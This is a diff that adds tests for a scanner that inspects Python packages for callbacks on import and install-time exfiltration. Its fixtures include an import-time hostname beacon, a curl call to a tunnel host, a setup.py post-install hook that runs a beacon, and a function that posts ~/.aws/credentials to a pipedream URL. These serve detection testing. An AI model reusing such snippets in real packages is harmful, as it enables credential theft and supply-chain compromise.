@@ -1407,3 +1407,129 @@ def test_a_test_named_by_a_test_that_running_code_names_is_read_in_full() -> Non
 def test_a_test_that_does_not_parse_is_still_reported() -> None:
     files = {"demo/__init__.py": "VERSION = '1.0'\n", "tests/test_broken.py": "def f(:\n"}
     assert "analysis.parse-failed" in {f.rule for f in scan(files).findings}
+
+
+# -- an address in a module: alarming when loading the module contacts the network ---------------
+
+TELEMETRY = """
+    import requests
+
+    ENDPOINT = "https://events-collector.herokuapp.com/api/v1/event"
+
+    def send(event):
+        requests.post(ENDPOINT, json=event, timeout=5)
+"""
+
+
+def test_a_callback_host_a_function_calls_when_asked_is_not_blocked() -> None:
+    result = scan({"demo/__init__.py": "", "demo/telemetry.py": TELEMETRY})
+    sev = {f.severity for f in result.findings if f.rule == "indicator.tunnel-or-callback"}
+    assert sev == {"medium"}
+    assert result.verdict not in FLAGGED, worst(result)
+
+
+def test_a_callback_host_contacted_on_import_still_blocks() -> None:
+    beacon = textwrap.dedent(TELEMETRY) + "import socket\nsend({'host': socket.gethostname()})\n"
+    result = scan({"demo/__init__.py": "", "demo/telemetry.py": beacon})
+    assert "indicator.tunnel-or-callback" in rules(result, "high")
+    assert result.verdict in FLAGGED
+
+
+def test_a_callback_host_a_curl_on_import_contacts_still_blocks() -> None:
+    src = """
+        import os
+        HOOK = "https://grab.trycloudflare.com/in"
+        os.system("curl -s " + HOOK)
+    """
+    assert "indicator.tunnel-or-callback" in rules(scan({"demo/__init__.py": src}), "high")
+
+
+def test_a_program_link_a_function_downloads_when_asked_is_not_blocked() -> None:
+    src = """
+        import urllib.request
+
+        INSTALLER = "https://downloads.example.org/tool/setup-2.1.exe"
+
+        def fetch_installer(dest):
+            urllib.request.urlretrieve(INSTALLER, dest)
+    """
+    result = scan({"demo/__init__.py": src})
+    sev = {f.severity for f in result.findings if f.rule == "indicator.executable-url"}
+    assert sev == {"medium"}
+
+
+# -- a file setup.py runs as a script: its main block runs at install ------------------------------
+
+BEACON_MAIN = """
+    import socket
+    import requests
+
+    def report(server):
+        requests.post(server, json={"host": socket.gethostname()})
+
+    def main():
+        report("https://collect.example-poc.net/in")
+
+    if __name__ == "__main__":
+        main()
+"""
+
+
+def _setup_running(command: str) -> str:
+    return f"""
+        import subprocess, sys
+        from setuptools import setup
+        from setuptools.command.install import install
+
+        class PostInstall(install):
+            def run(self):
+                install.run(self)
+                subprocess.run({command})
+
+        setup(name="demo", packages=["demo"], cmdclass={{"install": PostInstall}})
+    """
+
+
+def test_a_module_setup_py_runs_with_dash_m_runs_its_main_block_at_install() -> None:
+    setup = _setup_running('[sys.executable, "-m", "demo.beacon"]')
+    result = scan({"setup.py": setup, "demo/__init__.py": "", "demo/beacon.py": BEACON_MAIN})
+    assert "intent.exfiltration" in rules(result, "critical")
+
+
+def test_a_script_setup_py_runs_by_path_runs_its_main_block_at_install() -> None:
+    setup = _setup_running('[sys.executable, "tools/post.py"]')
+    result = scan({"setup.py": setup, "tools/post.py": BEACON_MAIN})
+    assert "intent.exfiltration" in rules(result, "critical")
+
+
+def test_a_generator_setup_py_runs_with_dash_m_is_not_flagged() -> None:
+    gen = """
+        import pathlib
+
+        def write_version(path):
+            pathlib.Path(path).write_text("__version__ = '1.0'\\n")
+
+        if __name__ == "__main__":
+            write_version("demo/_version.py")
+    """
+    setup = _setup_running('[sys.executable, "-m", "demo.gen"]')
+    result = scan({"setup.py": setup, "demo/__init__.py": "", "demo/gen.py": gen})
+    assert result.verdict not in FLAGGED, worst(result)
+
+
+def test_the_main_block_of_an_imported_module_does_not_run_on_import() -> None:
+    result = scan({"demo/__init__.py": "", "demo/beacon.py": BEACON_MAIN})
+    assert "intent.exfiltration" not in rules(result, "critical")
+
+
+def test_a_callback_host_beside_a_credential_store_still_blocks() -> None:
+    src = """
+        import os
+        import requests
+
+        def push(hook="https://grab-7f3a.m.pipedream.net"):
+            path = os.path.join(os.path.expanduser("~"), ".aws/credentials")
+            requests.post(hook, data=open(path).read())
+    """
+    result = scan({"demo/__init__.py": "", "demo/cli.py": src})
+    assert "indicator.tunnel-or-callback" in rules(result, "high")
